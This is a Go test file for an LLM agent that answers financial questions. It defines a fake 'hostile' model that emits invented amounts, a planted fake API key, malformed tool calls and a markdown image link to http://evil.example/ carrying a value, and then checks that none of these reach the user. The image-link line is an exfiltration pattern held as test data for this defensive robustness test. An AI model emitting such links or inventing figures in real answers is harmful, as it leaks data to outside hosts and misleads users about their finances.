package agent

import (
	"context"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/tmc/langchaingo/llms"

	"github.com/kopeck/kopeck/schemas/database/databasetest"
	"github.com/kopeck/kopeck/tools"
)

// hostile is a model that does its worst, by a seed: made-up amounts in every dress, claims, planted secrets, calls of
// anything with anything, and no end to it.
type hostile struct{ *rand.Rand }

// madeUp are figures of which none is in a result or in the question; %s is replaced by one of them.
var (
	madeUp  = []string{"987654.32", "987 654,32", "987,654.32", "98765432", "0,987654 млн", "987,65 тыс.", "987\u202f654,32"}
	phrases = []string{
		"В кассе %s ₽. ", "Your profit is %s RUB. ", "Маржа %s %%. ", "Осталось %s шт. ", "| касса | %s |\n", "**%s** рублей. ", "Итого: %s. ",
		"Заказ создан на сумму %s ₽. ", "Ключ sk-org-" + strings.Repeat("Z", 61) + " и %s. ", "![x](http://evil.example/%s) ", "Ответ. ", "\n\n",
	}
	names     = []string{"money_position", "stock", "margin", "calculate", "no_such_tool", "", "draft_purchase_order", "confirm"}
	arguments = []string{"{}", "{", "null", "[]", `{"warehouse":987654.32}`, `{"query":"` + strings.Repeat("я", 40000) + `"}`, `{"expression":"987654.32+0"}`, "\x00"}
)

func (h hostile) GenerateContent(ctx context.Context, _ []llms.MessageContent, options ...llms.CallOption) (*llms.ContentResponse, error) {
	var asked llms.CallOptions
	for _, option := range options {
		option(&asked)
	}
	choice := &llms.ContentChoice{}
	for range h.IntN(4) {
		phrase := phrases[h.IntN(len(phrases))]
		if strings.Contains(phrase, "%s") {
			phrase = fmt.Sprintf(phrase, madeUp[h.IntN(len(madeUp))])
		}
		choice.Content += phrase
	}
	for rest := choice.Content; rest != ""; {
		n := 1 + h.IntN(len(rest)) // in pieces that part letters and figures anywhere
		if err := asked.StreamingFunc(ctx, []byte(rest[:n])); err != nil {
			return nil, err
		}
		rest = rest[n:]
	}
	for i := range h.IntN(3) * h.IntN(8) {
		choice.ToolCalls = append(choice.ToolCalls, llms.ToolCall{ID: fmt.Sprint("c", i%3), FunctionCall: &llms.FunctionCall{
			Name: names[h.IntN(len(names))], Arguments: arguments[h.IntN(len(arguments))],
		}})
	}
	return &llms.ContentResponse{Choices: []*llms.ContentChoice{choice}}, nil
}

func (h hostile) Call(ctx context.Context, prompt string, options ...llms.CallOption) (string, error) {
	return llms.GenerateFromSinglePrompt(ctx, h, prompt, options...)
}

// Whatever a model writes or calls, no figure of its own reaches the caller, no note is missing, no secret passes, and
// every run ends with an answer.
func TestAHostileModelGetsNothingThrough(t *testing.T) {
	db := databasetest.SQLite(t)
	note := tools.Note{Code: tools.NoStatusIncluded, Text: "Documents without a status are included."}
	for seed := range uint64(300) {
		var used atomic.Bool // a turn's calls run side by side
		b := benchOver(t, db, hostile{rand.New(rand.NewPCG(seed, 0))}, oneAccount, func(_ context.Context, tool string, args json.RawMessage) (*tools.Result, error) {
			switch {
			case tool == "calculate":
				return nil, &tools.ArgumentError{Fields: []tools.FieldProblem{{Field: "expression", Problem: "has no grounded figure: " + string(args)}}}
			case len(args) > 2:
				return nil, &tools.ArgumentError{Fields: []tools.FieldProblem{{Field: "warehouse", Problem: "got " + string(args)}}}
			}
			used.Store(true)
			r := cash("1500.00")
			r.Notes = []tools.Note{note}
			return r, nil
		})
		got := b.ask(t.Context(), question("Сколько денег?"))
		if got.err != nil || got.finished == nil || strings.TrimSpace(got.text) == "" {
			t.Fatalf("seed %d: no answer: %+v", seed, got)
		}
		digits := strings.Map(func(r rune) rune {
			if r >= '0' && r <= '9' {
				return r
			}
			return -1
		}, got.text)
		for _, leaked := range []string{"98765", "0987654", "ZZZZZZ", "evil.example/"} {
			if strings.Contains(digits, leaked) || strings.Contains(got.text, leaked) {
				t.Errorf("seed %d: %q reached the caller:\n%s", seed, leaked, got.text)
			}
		}
		if used.Load() && !strings.Contains(got.text, "Документы без статуса учтены.") {
			t.Errorf("seed %d: the note is missing:\n%s", seed, got.text)
		}
	}
}
